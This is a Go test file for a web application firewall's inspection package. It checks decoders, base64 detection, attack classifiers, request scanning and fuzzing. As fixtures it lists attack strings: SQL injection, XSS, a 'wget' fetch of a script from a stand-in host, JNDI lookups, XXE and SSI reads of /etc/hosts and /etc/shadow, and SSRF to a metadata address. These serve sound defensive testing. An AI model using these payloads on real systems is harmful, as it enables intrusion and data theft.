package inspect_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"

	"github.com/jichitai/seccloud/waf/inspect"
)

func TestDecoders(t *testing.T) {
	tests := []struct {
		name, in, want string
		f              func(string) string
	}{
		{"percent", "%3Cscript%3E", "<script>", inspect.PercentDecode},
		{"percent %u", "%u003Cb", "<b", inspect.PercentDecode},
		{"overlong utf-8", "%C0%AE%C0%AE%C0%AFetc", "../etc", inspect.PercentDecode},
		{"percent invalid kept", "100%zz", "100%zz", inspect.PercentDecode},
		{"entity named", "&lt;b&gt;", "<b>", inspect.HTMLUnescape},
		{"entity no semicolon", "&#0000040x&colon&lpar;", "(x:(", inspect.HTMLUnescape},
		{"entity hex", "j&#X41vascript", "jAvascript", inspect.HTMLUnescape},
		{"entity unknown kept", "AT&T & co", "AT&T & co", inspect.HTMLUnescape},
		{"js unicode", `\u0061\u006c\u0065rt`, "alert", inspect.JSUnescape},
		{"js hex and quote", `\x3c\'`, "<'", inspect.JSUnescape},
		{"squeeze controls", "scr\x00ipt\tx", "scriptx", inspect.Squeeze},
		{"squeeze concat", `'ale'+'rt'`, "'alert'", inspect.Squeeze},
		{"squeeze sql comment", "UNION/**/SELECT", "UNION SELECT", inspect.Squeeze},
		{"squeeze mysql comment", "/*!50000UNION*/", "UNION ", inspect.Squeeze},
		{"fold full-width", "ｓｃｒｉｐｔ", "script", inspect.Fold},
		{"fold circled", "ⒼⓄⓄⒼⓁⒺ", "GOOGLE", inspect.Fold},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { assert.Equal(t, tt.want, tt.f(tt.in)) })
	}
}

func TestDecodeBase64(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		ok       bool
	}{
		{"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "<script>alert(1)</script>", true},
		{"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<script>alert(1)</script>", true},
		{"password", "", false}, // a word
		{"12345678", "", false}, // a number
		{"AJi4QfE55OPSE6yKlgB-feWEmifGHEiEaXfTwJDavaEIXd6zE0Eo9GoTGccdgEdNWmi2S1arci_D", "", false}, // binary
	} {
		got, ok := inspect.DecodeBase64(tt.in)
		assert.Equal(t, tt.ok, ok, tt.in)
		assert.Equal(t, tt.want, got, tt.in)
	}
}

func classes(fs []inspect.Finding) []inspect.Class {
	var out []inspect.Class
	for _, f := range fs {
		out = append(out, f.Class)
	}
	return out
}

// TestDetectors uses attack strings written for this test (not the
// corpora), one or more per class, and benign look-alikes.
func TestDetectors(t *testing.T) {
	attacks := []struct {
		v    string
		want inspect.Class
	}{
		{"1' or sleep(5)#", inspect.SQLi},
		{"x' UNION/**/SELECT name,pass FROM users--", inspect.SQLi},
		{`<div/onmouseover="fetch('//e.example')">`, inspect.XSS},
		{"<a href=javascript&colon;alert&lpar;2)>", inspect.XSS},
		{"../../../../windows/win.ini", inspect.Traversal},
		{"x|wget -qO- http://e.example/a.sh", inspect.RCE},
		{"a;${IFS}uname", inspect.RCE},
		{"<%= 7*7 %>{{7*'7'}}", inspect.SSTI},
		{"${jndi:dns://e.example/x}", inspect.JNDI},
		{`<!--#include virtual="/etc/shadow"-->`, inspect.SSI},
		{"admin)(|(cn=*))", inspect.LDAP},
		{`{"user":{"$ne":null}}`, inspect.NoSQL},
		{"x\r\nLocation: http://e.example/", inspect.CRLF},
		{"a@b.example\nBcc: all@c.example", inspect.Mail},
		{`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>`, inspect.XXE},
		{"{__schema{types{name}}}", inspect.GraphQL},
		{"PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", inspect.XSS}, // base64 of <svg onload=alert(1)>
		{"gopher://127.0.0.1:6379/_INFO", inspect.SSRF},
		{"http://169.254.169.254/latest/", inspect.SSRF},
		{`O:4:"User":1:{s:2:"id";i:1;}`, inspect.JNDI},
		{"'; return this.a == 'b' ; var c='", inspect.NoSQL},
	}
	for _, a := range attacks {
		fs := inspect.Value(inspect.InArg, "p", a.v, nil)
		assert.Contains(t, classes(fs), a.want, a.v)
	}
	benign := []string{
		"O'Reilly books", "rock & roll", "price < 100 and > 50", "2026-01-05", "防災 避難所",
		"page 1/2 of the report", "email me: a.b@city.example.jp", "select your city, then press OK",
		"Q&A: how do I print?", "50% off; today only", "{\"name\":\"alice\",\"age\":3}", "a,b,c",
		"https://www.city.example.jp/bousai/index.html?x=1", "cat food and dog food", "1+1=2",
	}
	for _, b := range benign {
		fs := inspect.Value(inspect.InArg, "p", b, nil)
		assert.Empty(t, fs, b)
	}
}

func TestScanRequestParts(t *testing.T) {
	h := http.Header{"Content-Type": {"application/json"}, "X-Note": {"${jndi:ldap://e.example/a}"}}
	fs := inspect.Scan(&inspect.Request{Method: "POST", URI: "/api?q=%3Cscript%3E", Header: h,
		Body: []byte(`{"a":{"b":["\u003cimg src=x onerror=alert(1)\u003e"]}}`)})
	var where []string
	for _, f := range fs {
		where = append(where, f.Where.String()+"/"+string(f.Class))
	}
	assert.Contains(t, where, "arg/xss")
	assert.Contains(t, where, "header/code-injection")
	// a binary body is not read as text
	fs = inspect.Scan(&inspect.Request{Method: "POST", URI: "/up", Header: http.Header{"Content-Type": {"application/octet-stream"}},
		Body: []byte("<script>alert(1)</script>")})
	assert.Empty(t, fs)
}

func ExampleValue() {
	for _, f := range inspect.Value(inspect.InArg, "q", "%3Csvg%20onload%3Dalert(1)%3E", nil) {
		fmt.Println(f.ID, f.Class)
	}
	// Output:
	// 990101 xss
	// 990120 xss
	// 990121 xss
}

func FuzzVariants(f *testing.F) {
	for _, s := range []string{"%3Cscript%3E", "&#x3c;", `\u003c`, "PHNjcmlwdD4", "%C0%AE", "ｓ", "/*!1*/", `"a"+"b"`, "&_lt;", "%u00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		vs := inspect.Variants(s)
		if len(vs) == 0 || vs[0] != s {
			t.Fatalf("first variant must be the input")
		}
		if len(vs) > 12 {
			t.Fatalf("%d variants", len(vs))
		}
		for _, v := range vs {
			if len(v) > 4*len(s)+16 {
				t.Fatalf("variant grew from %d to %d bytes", len(s), len(v))
			}
		}
		_ = utf8.ValidString(inspect.Fold(s))
	})
}

func FuzzScan(f *testing.F) {
	f.Add("/a?b=c", "application/json", []byte(`{"x":["y"]}`))
	f.Add("/", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv\r\n--x--\r\n"))
	f.Add("/x", "application/xml", []byte(`<a b="c">d</a>`))
	f.Fuzz(func(t *testing.T, uri, ct string, body []byte) {
		if strings.ContainsAny(ct, "\r\n") {
			return
		}
		fs := inspect.Scan(&inspect.Request{Method: "POST", URI: uri, Header: http.Header{"Content-Type": {ct}}, Body: body})
		for _, x := range fs {
			if x.ID < 990000 || x.ID > 990999 || len(x.Match) > 64 {
				t.Fatalf("bad finding %+v", x)
			}
		}
	})
}

// TestJSONWalk: JSON bodies are walked in place in document order, also
// deep and inside strings; a body that is not one JSON value (trailing
// text) is scanned as text, not read up to its first value.
func TestJSONWalk(t *testing.T) {
	ct := http.Header{"Content-Type": {"application/json"}}
	scan := func(body string) []inspect.Finding {
		return inspect.Scan(&inspect.Request{Method: "POST", URI: "/api", Header: ct, Body: []byte(body)})
	}
	assert.Empty(t, scan(`{"shelters":[{"name":"青葉小学校","lat":38.26,"open":true,"notes":null}]}`))
	assert.NotEmpty(t, scan(`{"a":{"b":[1,2,{"c":"<script>alert(1)</script>"}]}}`))
	assert.NotEmpty(t, scan(`{"vars":"{\"q\":\"1' OR '1'='1\"}"}`), "JSON inside a string")
	assert.NotEmpty(t, scan(`{"a":"ok"} <script>alert(document.cookie)</script>`), "trailing text after the JSON value")
	assert.NotEmpty(t, scan(`{"$where":"this.a == 1"}`), "keys are values too")
}
